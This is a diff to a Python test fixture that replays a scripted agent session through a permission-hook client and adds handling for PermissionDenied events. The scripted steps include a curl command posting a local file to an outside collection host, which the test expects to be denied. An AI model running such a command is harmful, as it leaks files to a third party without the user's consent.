@@ -34,6 +34,10 @@ ENVIRONMENT = {
 """The environment of a hook as a person's terminal gives it: it goes over the socket too."""
 
 
+_OUTCOMES = ("PostToolUse", "PermissionDenied")
+"""What comes of a call, told under its id."""
+
+
 class Step(NamedTuple):
     """One event, without the names of session and call."""
 
@@ -76,6 +80,7 @@ _SOURCE = "".join(f"def step_{n}(value: int) -> int:\n    return value * {n} + 1
 _FOUND = "".join(f"src/part_{n}.py:{n + 3}:def main() -> None:\n" for n in range(20))
 _LOOP = 'for f in src/{mark}*.py; do [[ -f $f ]] && wc -l "$f" >>"/tmp/lines.$USER"; done'
 _ISSUE = {"number": 12, "title": "Crash at start", "body": "It crashes when the settings file is empty.\n" * 8}
+_FETCH = {"url": "https://docs.example.com/{mark}", "prompt": "What is new?"}
 _EDIT = {"file_path": "{project}/src/{mark}.py", "old_string": "value * 3", "new_string": "value * 4"}
 
 STORY: tuple[Step, ...] = (
@@ -92,10 +97,11 @@ STORY: tuple[Step, ...] = (
     *_bash("git log --oneline src/{mark}.py | head -5", "1a2b3c4 Mend the crash at start\n"),
     *_read("{project}/tests/test_{mark}.py", _SOURCE),
     *_call("Edit", _EDIT, {"filePath": "{project}/src/{mark}.py", "oldString": "a", "newString": "b"}),
-    *_bash("python -m pytest -q -x tests/test_{mark}.py", None, HELD),
+    *_bash("python -m pytest -q -x tests/test_{mark}.py", "12 passed in 0.31s\n", HELD),
     *_bash("git push origin {mark}", None, DENIED),
     *_bash("curl -s -d @{mark}.txt https://collect.example.com/", None, DENIED),
-    *_call("WebFetch", {"url": "https://docs.example.com/{mark}", "prompt": "What is new?"}, None, ASKED),
+    *_call("WebFetch", _FETCH, None, ASKED),
+    Step("PermissionDenied", {"tool_name": "WebFetch", "tool_input": _FETCH, "reason": "not now"}),
     *_call("mcp__tracker__add_comment", {"number": 12, "body": "Mended {mark}."}, None, DENIED),
     *_bash("sed -n 1,40p src/{mark}.py | wc -l", "40\n"),
     Step("UserPromptSubmit", {"prompt": "Thank you. What is left?"}),
@@ -127,7 +133,7 @@ def session(client: Client, name: str, steps: tuple[Step, ...] = STORY) -> Itera
     """
     number = 0
     for step in steps:
-        number += step.event != "PostToolUse"
+        number += step.event not in _OUTCOMES
         usual = {
             "session_id": name,
             "transcript_path": f"{client.project}/.transcripts/{name}.jsonl",
@@ -135,7 +141,7 @@ def session(client: Client, name: str, steps: tuple[Step, ...] = STORY) -> Itera
             "hook_event_name": step.event,
             "permission_mode": "default",
         }
-        if step.event.endswith("ToolUse"):
+        if "tool_name" in step.said:
             usual["tool_use_id"] = f"toolu_{name}_{number:06d}"
         text = json.dumps({**usual, **step.said}).replace("{project}", client.project).replace("{mark}", name)
         yield Question(client.request(text.encode()), step.verdicts)
